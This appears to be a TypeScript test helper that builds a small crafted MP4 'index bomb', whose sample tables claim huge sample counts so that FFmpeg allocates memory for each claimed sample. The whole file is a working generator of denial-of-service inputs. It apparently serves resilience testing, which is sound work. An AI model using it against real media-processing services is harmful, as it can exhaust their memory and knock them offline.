/** Big-endian, as MP4 has its numbers. */
function numbers(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length)
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value, 4 * index)
  return bytes
}

function box(type: string, ...parts: readonly Buffer[]): Buffer {
  const body = Buffer.concat(parts)
  return Buffer.concat([numbers(body.length + 8), Buffer.from(type), body])
}

const plain = (type: string, ...parts: readonly Buffer[]) => box(type, numbers(0), ...parts)

/** AAC in stereo; all samples are of one size and one duration, so that their tables have one entry each. */
function track(id: number, samples: number): Buffer {
  const format = box('mp4a', numbers(0, 1, 0, 0, 0x0002_0010, 0, 0xbb80_0000))
  const tables = [plain('stts', numbers(1, samples, 2)), plain('stsc', numbers(1, 1, samples, 1)), plain('stsz', numbers(1, samples))]
  const stbl = box('stbl', plain('stsd', numbers(1), format), ...tables, plain('stco', numbers(1, 40)))
  const media = box('minf', plain('smhd', numbers(0)), box('dinf', plain('dref', numbers(1), box('url ', numbers(1)))), stbl)
  const header = [plain('mdhd', numbers(0, 0, 48_000, samples, 0x55c4_0000)), plain('hdlr', numbers(0), Buffer.from('soun'), Buffer.alloc(13))]
  return box('trak', box('tkhd', numbers(1, 0, 0, id, 0, samples, 0, 0), Buffer.alloc(60)), box('mdia', ...header, media))
}

/** An MP4 of some kilobytes: FFmpeg makes of each track a list with 24 bytes for every sample that it says it has. */
export function indexBomb({ tracks, samples }: { readonly tracks: number; readonly samples: number }): Buffer {
  const movie = plain('mvhd', numbers(0, 0, 48_000, samples), Buffer.alloc(80))
  const all = Array.from({ length: tracks }, (_, index) => track(index + 1, samples))
  return Buffer.concat([box('ftyp', Buffer.from('isom'), numbers(0)), box('moov', movie, ...all), box('mdat', Buffer.alloc(64))])
}
